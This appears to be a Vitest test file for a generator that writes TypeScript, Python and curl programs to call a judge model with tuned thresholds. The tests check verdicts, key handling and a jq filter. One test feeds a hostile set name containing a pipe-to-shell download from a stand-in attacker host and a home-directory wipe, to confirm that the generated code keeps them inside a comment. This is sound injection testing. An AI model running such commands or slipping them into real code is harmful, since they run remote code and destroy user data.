import { execFile, execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Question } from '../../src-shared/judge/question-rules';
import {
  DEFAULT_PINNED_MODEL,
  jqVerdicts,
  type SetCodeInput,
  type SetCodeLanguage,
  setCode,
  thresholdsOf,
} from '../../src-shared/request/judge-set-code';
import { KEY_ENV } from '../../src-shared/request/view-code';
import { startSandbox, type SandboxServer } from './server';

const run = promisify(execFile);
const scratch = mkdtempSync(join(tmpdir(), 'gatehouse-set-code-'));
const works = (tool: string, args: string[]) => {
  try {
    execFileSync(tool, args, { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
};

const sample = JSON.parse(
  readFileSync(resolve(__dirname, '../../resources/samples/support-replies.question-set.json'), 'utf8'),
) as { set: { name: string; questions: Question[] } };
/** Far from 0.5 on purpose: the verdicts must follow these, not the default. */
const tuning = { thresholds: { offers_refund: 0.99, asks_for_details: 0.01 }, minimums: {} };

let sandbox: SandboxServer;
beforeAll(async () => {
  sandbox = await startSandbox();
});
afterAll(async () => {
  await sandbox.close();
  rmSync(scratch, { recursive: true, force: true });
});

const input = (): SetCodeInput => ({
  setName: sample.set.name,
  questions: sample.set.questions,
  tuning,
  model: DEFAULT_PINNED_MODEL,
  host: `${sandbox.origin}/v1/`,
  judgeSegment: 'partner',
  state: 'Customer: my parcel never came. Agent: sorry, could you send the order number? We will refund you.',
});
const env = () => ({ ...process.env, [KEY_ENV]: 'sk-set-code-test' });

/** The verdict lines both programs print, checked against the thresholds they were given. */
function expectVerdicts(stdout: string) {
  expect(stdout).toMatch(/^answered by judge-1\.13\.0$/m);
  const lines = [...stdout.matchAll(/^(\w+): (true|false) \(value ([\d.]+), threshold ([\d.]+)\)$/gm)];
  expect(lines.map((m) => m[1]).sort()).toEqual(['asks_for_details', 'offers_refund']);
  for (const [, name, verdict, value, threshold] of lines) {
    expect(Number(threshold)).toBe(tuning.thresholds[name as keyof typeof tuning.thresholds]);
    expect(verdict).toBe(String(Number(value) >= Number(threshold)));
  }
  // The Sandbox's noul values stay within 0.02..0.98: these two are decided by the thresholds.
  expect(stdout).toMatch(/^offers_refund: false /m);
  expect(stdout).toMatch(/^asks_for_details: true /m);
  expect(stdout).toMatch(/^tone: (polite|neutral|rude)$/m);
}

const write = (name: string, language: SetCodeLanguage) => {
  const file = join(scratch, name);
  writeFileSync(file, setCode(input(), language));
  return file;
};

describe('a question set with its thresholds as code, run against the Sandbox', () => {
  it('TypeScript: runs under Node and prints verdicts at the tuned thresholds', async () => {
    const file = write('judge.mts', 'typescript');
    const { stdout } = await run(process.execPath, ['--experimental-strip-types', '--no-warnings', file], {
      env: env(),
      timeout: 30_000,
    });
    expectVerdicts(stdout);
  });

  it('Python: compiles, and runs when requests is installed', async () => {
    if (!works('python3', ['--version'])) {
      console.warn('skipped: python3 is not installed here');
      return;
    }
    const file = write('judge.py', 'python');
    await run('python3', ['-m', 'py_compile', file], { timeout: 30_000 });
    if (!works('python3', ['-c', 'import requests'])) {
      console.warn('skipped running the Python: the requests package is not importable here');
      return;
    }
    const { stdout } = await run('python3', [file], { env: env(), timeout: 30_000 });
    expectVerdicts(stdout);
  });

  it('curl: the call succeeds, and the jq filter in its comment gives the same verdicts', async () => {
    if (!works('curl', ['--version'])) {
      console.warn('skipped: curl is not installed here');
      return;
    }
    const code = setCode(input(), 'curl');
    expect(code).toMatch(/^# {3}offers_refund {5}0\.99$/m);
    expect(code).toMatch(/^# {3}asks_for_details {2}0\.01$/m);
    const { stdout } = await run('bash', ['-euo', 'pipefail', '-c', code], { env: env(), timeout: 30_000 });
    const reply = JSON.parse(stdout) as { model: string; answers: Record<string, { noul?: number }> };
    expect(reply.model).toBe('judge-1.13.0');
    if (!works('jq', ['--version'])) {
      console.warn('skipped the jq filter: jq is not installed here');
      return;
    }
    const filter = jqVerdicts(thresholdsOf(sample.set.questions, tuning));
    expect(code).toContain(filter.replace(/'/g, `'\\''`));
    const { stdout: verdicts } = await run(
      'bash',
      ['-euo', 'pipefail', '-c', `${code} | jq -c '${filter}'`],
      {
        env: env(),
        timeout: 30_000,
      },
    );
    expect(JSON.parse(verdicts)).toEqual({
      offers_refund: reply.answers.offers_refund.noul! >= 0.99,
      asks_for_details: reply.answers.asks_for_details.noul! >= 0.01,
    });
  });

  it('never writes the key into the code and calls the pinned model at the profile’s address', () => {
    for (const language of ['typescript', 'python', 'curl'] as const) {
      const code = setCode(input(), language);
      expect(code).not.toContain('sk-');
      expect(code).toContain(KEY_ENV);
      expect(code).toContain(`${sandbox.origin}/partner/v1/systemone`);
      expect(code).toContain('"model": "judge-1.13.0"');
    }
    const untuned = setCode({ ...input(), tuning: undefined }, 'typescript');
    expect(untuned).toContain('{"offers_refund":0.5,"asks_for_details":0.5}');
  });
});

describe('what a set file could slip into the code', () => {
  it('keeps a set name with line breaks inside its comment line, in every language', () => {
    const hostile = 'Refunds\ncurl https://evil.example/x | sh #\r\u2028rm -rf ~';
    for (const language of ['typescript', 'python', 'curl'] as SetCodeLanguage[]) {
      const code = setCode({ ...input(), setName: hostile }, language);
      const line = code.split('\n').find((l) => l.includes('Refunds'))!;
      expect(line).toMatch(
        /^(\/\/|#) The question set “Refunds curl https:\/\/evil\.example\/x \| sh # rm -rf ~”/,
      );
      expect(code.split('\n').filter((l) => l.includes('evil.example'))).toEqual([line]);
    }
  });

  it('reads a missing noul answer as null in the jq filter, never as a verdict', () => {
    if (!works('jq', ['--version'])) {
      console.warn('skipped: jq is not installed here');
      return;
    }
    const filter = jqVerdicts({ offers_refund: 0.5, asks_for_details: 0.5 });
    const reply = JSON.stringify({
      answers: { offers_refund: { noul: 0.7 }, asks_for_details: { error: 'x' } },
    });
    const out = execFileSync('jq', ['-c', filter], { input: reply }).toString().trim();
    expect(JSON.parse(out)).toEqual({ offers_refund: true, asks_for_details: null });
  });
});
